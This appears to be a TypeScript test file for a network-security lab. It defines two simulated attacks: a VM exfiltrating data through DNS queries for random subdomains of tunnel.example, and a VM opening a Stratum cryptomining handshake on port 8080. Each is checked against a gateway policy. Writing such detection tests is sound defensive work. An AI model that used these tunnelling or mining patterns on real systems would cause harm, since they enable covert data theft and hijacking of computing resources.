import { randomBytes } from 'node:crypto';
import type { Cast } from '../src/attack.ts';
import { askNames, converse, whileAnswering } from '../src/conversation.ts';
import { unstopped } from './noticing.ts';

/** What gateways tell that look into what passes: no rule blocks it. */

const NOTHING = { applications: ['QUIC'], names: [], risks: [] };
/** What is recognised is so by its first words. */
const FEW = 20;
const byAttacker = ({ attacker }: Cast) => attacker;

/** Letters and digits in which programs write bytes where case does not count. */
const label = (bytes: number) => randomBytes(bytes).toString('hex');
/** Together more than anybody but a tunnel has names carry. */
const tunnelled = () => Array.from({ length: 120 }, () => `${label(24)}.${label(8)}.tunnel.example`);

export const dnsTunnel = unstopped({
  id: 'dns-tunnel',
  title: 'A VM carries data away in the names that it asks a resolver for',
  code: 'dns-tunnel',
  by: byAttacker,
  async carryOut({ lab, cast: { attacker: from, victim: to, udpPort: port } }, policy) {
    await policy.inspectFor(from.name, to.name, port, NOTHING);
    const names = tunnelled();
    const answers = await askNames(lab, { from, to, port }, names);
    const answered = answers.filter((count) => count > 0).length;
    return { isDone: answered > 0, evidence: `${answered} of ${names.length} names were answered` };
  },
});

/** As programs that mine open a conversation with a pool (Stratum). */
const STRATUM = Buffer.from('{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5.1"]}\n');
const PORT = 8080;

export const mining = unstopped({
  id: 'mining',
  title: 'A VM offers its time to a pool that mines, on a port where it may speak',
  code: 'mining',
  by: byAttacker,
  carryOut: ({ lab, cast: { attacker: from, victim: to } }, policy) =>
    whileAnswering(lab, to.name, PORT, async () => {
      await policy.inspectFor(from.name, to.name, PORT, NOTHING);
      const answers = await converse(lab, { from, to, port: PORT }, STRATUM, FEW);
      return { isDone: answers === FEW, evidence: `${answers} of ${FEW} rounds were answered` };
    }),
});
